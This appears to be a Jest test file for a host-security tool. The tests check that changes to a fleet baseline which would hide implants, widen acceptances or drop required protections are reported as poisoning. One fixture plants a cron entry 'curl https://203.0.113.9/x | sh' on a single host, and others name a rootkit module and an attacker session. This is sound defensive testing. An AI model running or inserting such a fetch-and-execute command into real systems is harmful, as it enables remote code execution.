import { describe, expect, test } from '@jest/globals'
import { assess } from '../../src/assess.ts'
import type { Baseline, BaselineQuery } from '../../src/baseline/baseline.ts'
import type { HostRecord } from '../../src/snapshot/snapshot.ts'
import { fleet, hostId, QUERIES, query } from '../support/fleets.ts'
import { accepting, adding, learnedFrom, review } from '../support/reviews.ts'

const clean = await learnedFrom(fleet(30))

const withQuery = (name: string, query: Partial<BaselineQuery>): Baseline => ({
  ...clean,
  queries: { ...clean.queries, [name]: { ...clean.queries[name]!, ...query } }
})
const without = (name: string): Baseline => {
  const { [name]: _, ...queries } = clean.queries
  return { ...clean, queries }
}
const found = async (hosts: readonly HostRecord[], older: Baseline | null, newer: Baseline) =>
  (await review(hosts, older, newer)).poisoned.map(({ severity, hosts, explanation }) => ({
    severity,
    hosts,
    explanation
  }))
const poisoningFinding = (severity: string, words: RegExp, hosts: string[] = []) => ({
  severity,
  hosts,
  explanation: expect.stringMatching(words)
})

describe('what a pull request would hide is reported while the fleet is still healthy:', () => {
  test('an integrity table that the baseline no longer covers', async () => {
    expect(await found(fleet(30), clean, without('modules'))).toEqual([
      poisoningFinding('high', /^The new baseline no longer judges modules on 30 hosts/)
    ])
    expect(await found(fleet(30), clean, withQuery('modules', { columns: ['nom'] }))).toEqual([
      poisoningFinding('high', /no longer judges modules/)
    ])
    expect(await found(fleet(30), clean, without('sessions'))).toEqual([
      poisoningFinding('low', /no longer judges sessions/)
    ])
  })

  test('a pattern that replaces rows', async () => {
    expect(
      await found(fleet(30), clean, withQuery('modules', { required: [], optional: [['<rand>']] }))
    ).toEqual([poisoningFinding('high', /modules with a pattern/)])
    const programs = withQuery('programs', {
      required: [['/usr/bin/node', 'app']],
      optional: [['/usr/sbin/<rand>', 'root']]
    })
    expect(await found(fleet(30), clean, programs)).toEqual([
      poisoningFinding('high', /programs with a pattern/)
    ])
    expect(await found(fleet(30), programs, programs)).toEqual([])
  })

  test('a pattern that mode baseline writes for many variants, one step lower', async () => {
    const hosts = fleet(30, (index, rows) => {
      rows.cron?.push({
        path: `/etc/cron.d/job-${(index * 7919 + 0xabcdef12).toString(16)}f1`,
        command: 'run'
      })
    })
    const learned = await learnedFrom(hosts)
    expect(learned.queries.cron?.required.flat()).toContain('/etc/cron.d/job-<hex>')
    const listed = hosts.map(({ queries }) => [queries.cron!.rows[1]!.path!, 'run'])
    const { cron } = learned.queries
    const named = cron!.required.filter(([path]) => path !== '/etc/cron.d/job-<hex>')
    const older = {
      ...learned,
      queries: { ...learned.queries, cron: { ...cron!, required: named, optional: listed } }
    }
    expect(await found(hosts, older, learned)).toEqual([poisoningFinding('medium', /cron with a pattern/)])
    const wide = { ...cron!, required: [...named, ['/etc/cron.d/<rand>', 'run']], optional: [] }
    const widened = { ...learned, queries: { ...learned.queries, cron: wide } }
    expect(await found(hosts, older, widened)).toContainEqual(poisoningFinding('high', /cron with a pattern/))
  })

  test('a pattern of many variants that one host alone has', async () => {
    const variants = Array.from({ length: 8 }, (_, at) => [
      `/etc/cron.d/job-${(at * 7919 + 0xabcdef12).toString(16)}f1`,
      'run'
    ])
    const hosts = fleet(30, (index, rows) => {
      if (index === 4)
        for (const [path, command] of variants) rows.cron?.push({ path: path!, command: command! })
    })
    const blessed = adding(clean, 'cron', { optional: [['/etc/cron.d/job-<hex>', 'run']] })
    const severities = (await review(hosts, clean, blessed)).poisoned.map(({ severity }) => severity)
    expect(severities).toEqual(['high'])
  })

  test('an acceptance that is widened from one host to all', async () => {
    const hosts = fleet(30, (index, rows) => {
      if (index === 4) rows.cron?.push({ path: '/etc/cron.d/x', command: 'nmap' })
    })
    const match = { path: '/etc/cron.d/x', command: 'nmap' }
    const one = accepting(clean, 'cron', match, { hosts: [hostId(4)] })
    for (const more of [{}, { hosts: ['i-*'] }, { hosts: [hostId(4), hostId(5)] }]) {
      const { accept } = accepting(clean, 'cron', match, more)
      expect(await found(hosts, one, { ...one, accept })).toEqual([
        poisoningFinding('high', /accepts more rows of cron/)
      ])
      expect(await found(hosts, one, { ...one, accept: [...one.accept, ...accept] })).toEqual([
        poisoningFinding('high', /accepts (?:more )?rows of cron/)
      ])
    }
    const longer = accepting(clean, 'cron', match, { hosts: [hostId(4)], expires: '2027-01-31' })
    expect(await found(hosts, one, longer)).toEqual([])
  })

  test('a row of an ordinary table that one host has', async () => {
    const implanted = fleet(30, (index, rows) => {
      if (index === 4) rows.cron?.push({ path: '/etc/cron.d/x', command: 'curl https://203.0.113.9/x | sh' })
      if (index === 4) rows.sessions?.push({ user: 'mallory' })
    })
    const blessed = adding(clean, 'cron', {
      optional: [['/etc/cron.d/x', 'curl https://203.0.113.9/x | sh']]
    })
    expect(await found(implanted, clean, blessed)).toEqual([
      poisoningFinding('high', /cron that only 1 of 30 hosts has/, [hostId(4)])
    ])
    const context = adding(clean, 'sessions', { optional: [['mallory']] })
    expect(await found(implanted, clean, context)).toEqual([poisoningFinding('low', /sessions/, [hostId(4)])])
  })

  test('a protection that is no longer required', async () => {
    const { required } = clean.queries.guards!
    expect(await found(fleet(30), clean, withQuery('guards', { required: [], optional: required }))).toEqual([
      poisoningFinding('high', /^The new baseline no longer requires a row of guards/)
    ])
    const lax = {
      ...clean,
      queries: { ...clean.queries, guards: { ...clean.queries.guards!, required: [] } }
    }
    const roles = { a: { queries: {} }, web: { queries: { guards: clean.queries.guards! } } }
    expect(await found(fleet(30), clean, { ...lax, roles })).toEqual([])
  })

  test('an acceptance that matches more than hosts have', async () => {
    expect(await found(fleet(30), clean, accepting(clean, 'modules', { name: '*' }))).toEqual([
      poisoningFinding('high', /accepts rows of modules/)
    ])
    expect(await found(fleet(30), clean, accepting(clean, 'guards', { name: 'auditd' }))).toEqual([
      poisoningFinding('high', /accepts rows of guards/)
    ])
    const rolledOut = fleet(30, (_, rows) => {
      rows.modules?.push({ name: 'br_netfilter' })
      rows.programs?.push({ path: '/opt/agent', username: 'root' })
    })
    expect(await found(rolledOut, clean, accepting(clean, 'modules', { name: '*' }))).toEqual([
      poisoningFinding('high', /accepts more rows of modules/)
    ])
    expect(await found(rolledOut, clean, accepting(clean, 'programs', { path: '**' }))).toEqual([
      poisoningFinding('high', /accepts more rows of programs/)
    ])
    expect(await found(rolledOut, clean, accepting(clean, 'programs', { path: '/opt/agent' }))).toEqual([])
    for (const match of [{ path: '/etc/*' }, { path: '?*' }, { path: '*/*' }, { path: '/opt/agen?' }])
      expect(await found(rolledOut, clean, accepting(clean, 'programs', match))).toEqual([
        poisoningFinding('high', /accepts/)
      ])
    expect(await found(rolledOut, clean, accepting(clean, 'programs', { username: 'root' }))).toEqual([
      poisoningFinding('high', /accepts more rows of programs/)
    ])
    const known = accepting(clean, 'modules', { name: '*' })
    expect(await found(fleet(30), known, known)).toEqual([])
  })
})

test('a table that is no longer judged is reported although an acceptance of the base closes the finding about its rows', async () => {
  const hosts = fleet(30, (index, rows) => {
    if (index === 4) rows.modules?.push({ name: 'diamorphine' })
  })
  const accepted = accepting(clean, 'modules', { name: 'diamorphine' })
  const { modules: _, ...queries } = accepted.queries
  expect(await found(hosts, accepted, { ...accepted, queries })).toContainEqual(
    poisoningFinding('high', /no longer judges modules/)
  )
})

test('a query that compares fewer columns is reported', async () => {
  const foreign = query('jobs', null)
  const hosts = fleet(30).map(one => ({
    ...one,
    queries: {
      ...one.queries,
      jobs: { status: 'ok' as const, detail: null, rows: [{ path: '/etc/x', command: 'run' }] }
    }
  }))
  const columns = (names: string[], row: string[]): Baseline => ({
    ...clean,
    queries: { ...clean.queries, jobs: { columns: names, required: [row], optional: [] } }
  })
  const older = columns(['command', 'path'], ['run', '/etc/x'])
  const { findings } = await assess(
    {
      queries: [...QUERIES, foreign],
      indicators: [],
      today: '2026-09-30',
      baseline: columns(['path'], ['/etc/x']),
      replaced: older
    },
    async function* () {
      yield* hosts
    }
  )
  expect(findings).toContainEqual(
    expect.objectContaining({
      kind: 'poisoning',
      severity: 'high',
      explanation: expect.stringMatching(/no longer compares command of jobs/)
    })
  )
})

describe('a stopped protection is found although it is allowed', () => {
  const lacking = fleet(30, (index, rows) => {
    if (index < 2) rows.guards = []
  })
  const allowing = withQuery('guards', { required: [], optional: clean.queries.guards!.required })

  test('by a new baseline', async () => {
    expect(await found(lacking, null, allowing)).toContainEqual(
      poisoningFinding('high', /no longer requires a row of guards that 2 of 30 hosts lack/, [
        hostId(0),
        hostId(1)
      ])
    )
  })

  test('by a new query of the baseline', async () => {
    expect(await found(lacking, without('guards'), allowing)).toEqual([
      poisoningFinding('high', /no longer requires a row of guards that 2 of 30 hosts lack/, [
        hostId(0),
        hostId(1)
      ])
    ])
    expect(await found(lacking, without('guards'), clean)).toEqual([])
  })
})

test('a row of a query that no host answered is reported: nobody can say which hosts have it', async () => {
  const hosts = fleet(30).map(one => ({
    ...one,
    status: 'partial' as const,
    queries: { ...one.queries, modules: { status: 'failed' as const, detail: 'no table', rows: [] } }
  }))
  expect(await found(hosts, clean, adding(clean, 'modules', { optional: [['diamorphine']] }))).toEqual([
    poisoningFinding('high', /no host answered/)
  ])
  expect(await found(hosts, clean, clean)).toEqual([])
})

test('the order of roles in the file does not decide which of two a host belongs to', async () => {
  const { guards, ...queries } = clean.queries
  const lax = { queries: { guards: { ...guards!, required: [], optional: guards!.required } } }
  const lacking = fleet(30, (index, rows) => {
    if (index < 2) rows.guards = []
  })
  const strict = { queries: { guards: guards! } }
  const older = { ...clean, queries, roles: { a: strict, z: lax } }
  const { findings } = await review(lacking, older, { ...older, roles: { z: lax, a: strict } })
  expect(findings).toContainEqual(expect.objectContaining({ verdict: 'broken-control' }))
})
